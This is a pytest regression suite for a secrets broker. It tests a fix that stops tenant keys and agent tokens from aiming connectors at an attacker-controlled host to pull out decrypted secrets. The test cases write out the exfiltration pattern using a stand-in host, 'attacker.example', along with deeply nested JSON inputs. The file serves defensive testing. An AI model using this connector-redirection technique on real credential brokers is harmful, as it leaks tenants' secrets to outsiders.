"""Issue 12, finding 1: a tenant credential could read its tenant's secrets through the broker.

The attack: a key or agent token holding ``connectors:write`` and ``actions:invoke`` defines a connector whose
base URL is a host it controls, names one of the tenant's secrets (or a pending share's internal secret) as
the credential, and calls it; the broker used to send the decrypted value there. Now a secret carries a
destination policy, the vault refuses before decrypting, and widening a policy or moving a connector needs
``destinations:write``, which agent tokens never hold.

The exfiltration target: tenant connectors must be https on a public address, so the service here runs a
broker whose transport forwards every request to the loopback ``upstream`` the test owns (it records all it
gets) and whose resolver answers a public address for every host. On the code before the fix, the canary
reached that listener.
"""

from __future__ import annotations

import json
import secrets
from typing import Any

import pytest
from _strongroom_server_fixtures import PUBLIC_URL, Service

ATTACKER = "https://attacker.example"
STRIPE = "https://api.stripe.example"
CRM = "https://api.crm.example"


@pytest.fixture
def service(any_host_service: Service) -> Service:
    """The attack runs against a broker that reaches "any host" at the loopback upstream (the conftest)."""
    return any_host_service


def _connector(base_url: str, secret: str, credential: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "base_url": base_url,
        "description": "A connector the caller defined",
        "credential": {"kind": "bearer", "secret": secret, **(credential or {})},
        "operations": [{"id": "collect", "method": "GET", "path": "/anything", "summary": "Collect"}],
    }


def _store(s: Service, name: str, value: str, **body: Any) -> Any:
    answer = s.client.put(
        f"/v1/tenants/{s.a.name}/secrets/{name}", json={"value": value, **body}, headers=s.auth(s.a.key)
    )
    assert answer.status_code == 200, answer.text
    return answer.json()


def _agent(s: Service, *scopes: str) -> str:
    """An agent token of tenant A with these scopes (never destinations:write)."""
    issued = s.client.post(
        "/v1/tokens", json={"scopes": list(scopes), "subject": "agent-session"}, headers=s.auth(s.a.key)
    )
    assert issued.status_code == 201, issued.text
    return str(issued.json()["access_token"])


def _events(s: Service, action: str) -> list[dict[str, Any]]:
    answer = s.client.get(
        "/v1/audit", params={"tenant": s.a.name, "action": action, "limit": 1000}, headers=s.auth(s.admin)
    )
    assert answer.status_code == 200, answer.text
    return list(answer.json())


def _leaked(s: Service, value: str) -> bool:
    return value in s.upstream.seen_text()


# -- (a) a tenant key and an agent token aim a connector at their own host ----------------------------------


@pytest.mark.parametrize("who", ["key", "token"])
def test_a_connector_to_the_attackers_host_gets_nothing(service: Service, canary_credential: str, who: str) -> None:
    s = service
    _store(s, "stripe_key", canary_credential)
    credential = s.a.key if who == "key" else _agent(s, "connectors:write", "actions:invoke")
    name = f"exfil-{who}"
    put = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/{name}",
        json=_connector(ATTACKER, "stripe_key"),
        headers=s.auth(credential),
    )
    if who == "token":  # setting where a connector sends its credential needs destinations:write: a key's
        s.assert_error(put, 403, code="forbidden")
        s.assert_error(s.client.get(f"/v1/actions/{name}/anything", headers=s.auth(credential)), 404)
        assert s.upstream.seen == [], "the broker contacted the attacker's host"
        assert [e["outcome"] for e in _events(s, "connector.put")] == ["denied"]
        return
    assert put.status_code == 200, put.text  # the key may define it: the secret's policy guards the value

    answer = s.client.get(f"/v1/actions/{name}/anything", headers=s.auth(credential))

    error = s.assert_error(answer, 403)
    assert "'stripe_key'" in error["message"], error
    assert ATTACKER in error["message"], error
    assert "destinations" in error["message"], error  # and how to allow it
    assert s.upstream.seen == [], "the broker contacted the attacker's host"
    assert not _leaked(s, canary_credential)
    assert canary_credential not in answer.text
    refused = [e for e in _events(s, "secret.use") if e["purpose"] == f"broker:{name}"]
    assert [e["outcome"] for e in refused] == ["denied"], refused
    calls = [e for e in _events(s, "broker.call") if e["purpose"] == f"broker:{name}"]
    assert [e["outcome"] for e in calls] == ["denied"], calls


def test_a_tenant_connector_naming_another_tenants_secret_name_gets_nothing_either(
    service: Service, canary_credential: str
) -> None:
    """B holds a secret of the same name: A's connector only ever reaches A's secrets, and is refused."""
    s = service
    s.client.put(
        f"/v1/tenants/{s.b.name}/secrets/stripe_key", json={"value": canary_credential}, headers=s.auth(s.b.key)
    )
    s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/exfil", json=_connector(ATTACKER, "stripe_key"), headers=s.auth(s.a.key)
    )
    answer = s.client.get("/v1/actions/exfil/anything", headers=s.auth(s.a.token))
    s.assert_error(answer, 403, 404)
    assert s.upstream.seen == []


# -- (b) a pending share's internal secret ------------------------------------------------------------------


def test_a_share_value_cannot_be_named_by_a_connector(service: Service, make_canary: Any) -> None:
    s = service
    shared = make_canary("shared-value")
    made = s.client.post(f"/v1/tenants/{s.a.name}/shares", json={"value": shared}, headers=s.auth(s.a.key))
    assert made.status_code == 201, made.text
    # The attacker learns the internal name from the tenant's own audit log.
    names = {e["secret_name"] for e in _events(s, "secret.put") if (e["secret_name"] or "").startswith("share.")}
    assert len(names) == 1, names
    [internal] = names

    for credential in (s.a.key, s.a.token):
        put = s.client.put(
            f"/v1/tenants/{s.a.name}/connectors/peek",
            json=_connector(ATTACKER, internal),
            headers=s.auth(credential),
        )
        error = s.assert_error(put, 400)
        assert "strongroom's own" in error["message"], error
        answer = s.client.get("/v1/actions/peek/anything", headers=s.auth(credential))
        s.assert_error(answer, 404)

    assert not _leaked(s, shared)
    listed = s.client.get(f"/v1/tenants/{s.a.name}/secrets?include_deleted=true", headers=s.auth(s.a.key))
    assert listed.status_code == 200
    assert not [i for i in listed.json() if i["name"].startswith("share.")], listed.json()
    # The link still works, once: the attempts did not consume it.
    assert s.client.get(made.json()["url"].removeprefix(PUBLIC_URL)).text == shared


# -- (c) a token cannot widen a policy nor move a connector --------------------------------------------------


def test_a_token_cannot_change_a_secrets_policy(service: Service, canary_credential: str) -> None:
    s = service
    _store(s, "stripe_key", canary_credential, destinations=[{"origin": STRIPE, "placements": ["bearer"]}])
    token = _agent(s, "secrets:write", "connectors:write", "actions:invoke", "secrets:read-metadata")
    widened = [{"origin": ATTACKER, "placements": ["bearer"]}]
    fresh_value = secrets.token_urlsafe(24)

    put = s.client.put(
        f"/v1/tenants/{s.a.name}/secrets/stripe_key",
        json={"value": fresh_value, "destinations": widened},
        headers=s.auth(token),
    )
    error = s.assert_error(put, 403)
    assert "destinations:write" in error["message"], error
    direct = s.client.put(
        f"/v1/tenants/{s.a.name}/secrets/stripe_key/destinations",
        json={"destinations": widened},
        headers=s.auth(token),
    )
    s.assert_error(direct, 403)

    detail = s.client.get(f"/v1/tenants/{s.a.name}/secrets/stripe_key", headers=s.auth(s.a.key)).json()
    assert detail["version"] == 1
    assert detail["destinations"] == [{"origin": STRIPE, "placements": ["bearer"], "connectors": None}]
    denied = [e for e in _events(s, "secret.policy") if e["outcome"] == "denied"]
    assert [e["secret_name"] for e in denied] == ["stripe_key"], denied
    assert fresh_value not in json.dumps(_events(s, "secret.policy"))

    # With its policy unchanged, the token can neither define a connector to its own host nor call one.
    exfil = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/exfil", json=_connector(ATTACKER, "stripe_key"), headers=s.auth(token)
    )
    s.assert_error(exfil, 403)
    s.assert_error(s.client.get("/v1/actions/exfil/anything", headers=s.auth(token)), 404)
    assert not _leaked(s, canary_credential)


def test_a_token_cannot_move_a_connector_to_another_host(service: Service, canary_credential: str) -> None:
    s = service
    put = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(CRM, "crm_key"), headers=s.auth(s.a.key)
    )
    assert put.status_code == 200, put.text
    _store(s, "crm_key", canary_credential, destinations=[{"connector": "crm"}])
    token = _agent(s, "connectors:write", "actions:invoke")

    moved = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(token)
    )
    error = s.assert_error(moved, 403)
    assert "destinations:write" in error["message"], error
    refused = [e for e in _events(s, "connector.put") if e["outcome"] == "denied"]
    assert len(refused) == 1, refused
    assert ATTACKER in refused[0]["detail"], refused
    # The same origin with another path is no move: the token may still edit its operations.
    same = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(CRM + "/v2", "crm_key"), headers=s.auth(token)
    )
    assert same.status_code == 200, same.text

    answer = s.client.get("/v1/actions/crm/anything", headers=s.auth(token))
    assert answer.status_code == 200, answer.text  # still the CRM (the loopback listener stands in for it)
    assert canary_credential not in answer.text
    # A key with destinations:write may move it; the secret's policy then refuses the new origin.
    assert (
        s.client.put(
            f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(s.a.key)
        ).status_code
        == 200
    )
    seen = len(s.upstream.seen)
    s.assert_error(s.client.get("/v1/actions/crm/anything", headers=s.auth(token)), 403)
    assert len(s.upstream.seen) == seen
    moves = [e for e in _events(s, "connector.put") if e["outcome"] == "ok"]
    assert any(ATTACKER in (e["detail"] or "") for e in moves), moves


# -- (d) the policy lets the right calls through ---------------------------------------------------------------


def test_an_allowed_origin_and_placement_works_and_another_placement_does_not(
    service: Service, canary_credential: str
) -> None:
    s = service
    _store(s, "stripe_key", canary_credential, destinations=[{"origin": STRIPE, "placements": ["bearer"]}])
    for name, credential in (("stripe", None), ("stripe-query", {"kind": "query", "name": "key"})):
        put = s.client.put(
            f"/v1/tenants/{s.a.name}/connectors/{name}",
            json=_connector(STRIPE, "stripe_key", credential),
            headers=s.auth(s.a.key),
        )
        assert put.status_code == 200, put.text

    ok = s.client.get("/v1/actions/stripe/anything", headers=s.auth(s.a.token))
    assert ok.status_code == 200, ok.text
    [seen] = s.upstream.seen
    assert ["Authorization", f"Bearer {canary_credential}"] in seen["headers"]
    assert canary_credential not in ok.text

    wrong = s.client.get("/v1/actions/stripe-query/anything", headers=s.auth(s.a.token))
    error = s.assert_error(wrong, 403)
    assert "query:key" in error["message"], error
    assert len(s.upstream.seen) == 1


def test_a_secret_without_a_policy_still_serves_the_operators_connectors(
    service: Service, canary_credential: str
) -> None:
    s = service
    _store(s, "echo_api_key", canary_credential)
    answer = s.client.get("/v1/actions/echo/anything", headers=s.auth(s.a.token))
    assert answer.status_code == 200, answer.text
    assert len(s.upstream.seen) == 1


# -- (e) delete connector X and re-create it elsewhere ------------------------------------------------------------


def test_deleting_and_recreating_a_named_connector_elsewhere_is_refused(
    service: Service, canary_credential: str
) -> None:
    s = service
    s.client.put(f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(CRM, "crm_key"), headers=s.auth(s.a.key))
    stored = _store(s, "crm_key", canary_credential, destinations=[{"connector": "crm"}])
    assert stored["destinations"] == [{"origin": CRM, "placements": ["bearer"], "connectors": ["crm"]}]
    assert s.client.get("/v1/actions/crm/anything", headers=s.auth(s.a.token)).status_code == 200
    token = _agent(s, "connectors:write", "actions:invoke")

    assert s.client.delete(f"/v1/tenants/{s.a.name}/connectors/crm", headers=s.auth(token)).status_code == 204
    again = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(token)
    )
    s.assert_error(again, 403)  # defining a connector is setting an origin: destinations:write
    seen = len(s.upstream.seen)
    s.assert_error(s.client.get("/v1/actions/crm/anything", headers=s.auth(token)), 404)
    # Re-created there by a key that may (destinations:write), the secret still refuses to follow it.
    moved = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/crm", json=_connector(ATTACKER, "crm_key"), headers=s.auth(s.a.key)
    )
    assert moved.status_code == 200, moved.text
    s.assert_error(s.client.get("/v1/actions/crm/anything", headers=s.auth(token)), 403)
    assert len(s.upstream.seen) == seen


# -- (f) a connector definition nested 1,000 levels deep ------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 1000 + b"]" * 1000,
        b'{"base_url": ' + b"[" * 1000 + b"]" * 1000 + b"}",
        b'{"description": {"a": ' * 500 + b"1" + b"}" * 500,
    ],
    ids=["array", "field", "objects"],
)
def test_deeply_nested_json_is_a_400(service: Service, body: bytes) -> None:
    s = service
    answer = s.client.put(
        f"/v1/tenants/{s.a.name}/connectors/deep",
        content=body,
        headers={**s.auth(s.a.key), "Content-Type": "application/json"},
    )
    error = s.assert_error(answer, 400)
    assert "deep" in error["message"], error


def test_connector_fields_of_the_wrong_type_are_a_400(service: Service) -> None:
    s = service
    for broken in (
        {**_connector(CRM, "crm_key"), "operations": [{"id": "x", "method": 1, "path": ["/"], "summary": {}}]},
        {**_connector(CRM, "crm_key"), "credential": {"kind": ["bearer"], "secret": {"a": 1}}},
        {**_connector(CRM, "crm_key"), "timeout_seconds": "1e999", "max_response_bytes": [1]},
    ):
        answer = s.client.put(f"/v1/tenants/{s.a.name}/connectors/odd", json=broken, headers=s.auth(s.a.key))
        s.assert_error(answer, 400)
